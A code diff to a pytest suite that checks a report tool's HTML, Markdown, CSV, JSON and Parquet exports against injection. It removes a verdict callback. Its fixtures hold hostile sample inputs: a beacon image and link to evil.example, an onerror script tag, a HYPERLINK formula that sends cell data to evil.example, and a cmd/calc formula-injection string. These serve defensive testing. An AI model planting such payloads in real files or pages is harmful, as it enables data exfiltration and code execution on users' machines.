@@ -8,7 +8,6 @@ import hashlib
 import io
 import json
 import re
-from collections.abc import Callable
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -16,7 +15,6 @@ import duckdb
 import pytest
 from results_parts import lbx, results_file
 
-Verdict = Callable[[str], None]
 LINK = "[click](https://evil.example/x) ![](http://evil.example/beacon.png) <img src=x onerror=alert(1)> `a` |b"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
 
@@ -40,7 +38,7 @@ class _Tags(HTMLParser):
         self.seen.append((tag, dict(attributes)))
 
 
-def test_a_page_runs_and_fetches_nothing(linked: Path, verdict: Verdict) -> None:
+def test_a_page_runs_and_fetches_nothing(linked: Path) -> None:
     page = lbx("report", linked, "--format", "html").out
     tags = _Tags()
     tags.feed(page)
@@ -56,10 +54,9 @@ def test_a_page_runs_and_fetches_nothing(linked: Path, verdict: Verdict) -> None
         sums.append(f"{tag}-src 'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'")
     assert policies == [f"default-src 'none'; {'; '.join(sums)}; base-uri 'none'; form-action 'none'"]
     assert page.index("Content-Security-Policy") < page.index("<title>") < page.index("evil.example")
-    verdict("survived")
 
 
-def test_markdown_has_no_link_no_picture_no_html(linked: Path, verdict: Verdict) -> None:
+def test_markdown_has_no_link_no_picture_no_html(linked: Path) -> None:
     text = lbx("report", linked, "--format", "markdown").out
     lines = [line for line in text.splitlines() if "evil.example" in line]
     assert lines
@@ -69,11 +66,10 @@ def test_markdown_has_no_link_no_picture_no_html(linked: Path, verdict: Verdict)
     # Every row has as many cells as its heading, so that nothing moves to another column.
     for table in re.findall(r"(?:^\|.*\n)+", text, re.MULTILINE):
         assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}) == 1
-    verdict("survived")
 
 
 @pytest.mark.parametrize("command", ["report", "sql"])
-def test_csv_holds_no_formula_and_stays_csv(formulas: Path, command: str, verdict: Verdict) -> None:
+def test_csv_holds_no_formula_and_stays_csv(formulas: Path, command: str) -> None:
     query = (
         ("leaderboard",)
         if command == "report"
@@ -88,22 +84,19 @@ def test_csv_holds_no_formula_and_stays_csv(formulas: Path, command: str, verdic
         assert (row["score"], row["text"], row["bullet"]) == ("-0.5", "-0.5", "'- item")
     else:
         assert float(row["score"]) == 1.0
-    verdict("survived")
 
 
 @pytest.mark.parametrize("name", ["=1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\uff1d1"])
-def test_no_beginning_of_a_formula(tmp_path: Path, name: str, verdict: Verdict) -> None:
+def test_no_beginning_of_a_formula(tmp_path: Path, name: str) -> None:
     said = lbx("report", results_file(tmp_path / "r.duckdb", model=name), "leaderboard", "--format", "csv")
     (row,) = csv.DictReader(io.StringIO(said.out, newline=""))
     assert row["model"] == (name if name == "+1" else f"'{name}")
-    verdict("survived")
 
 
-def test_json_and_parquet_are_exact(formulas: Path, tmp_path: Path, verdict: Verdict) -> None:
+def test_json_and_parquet_are_exact(formulas: Path, tmp_path: Path) -> None:
     query = "SELECT model, output FROM runs, generations"
     (row,) = json.loads(lbx("sql", formulas, query, "--format", "json").out)
     assert row == {"model": FORMULA, "output": "-0.5\r\n=1+1"}
     out = tmp_path / "x.parquet"
     assert lbx("sql", formulas, query, "--format", "parquet", "-o", out).code == 0
     assert duckdb.read_parquet(str(out)).fetchall() == [(FORMULA, "-0.5\r\n=1+1")]
-    verdict("survived")
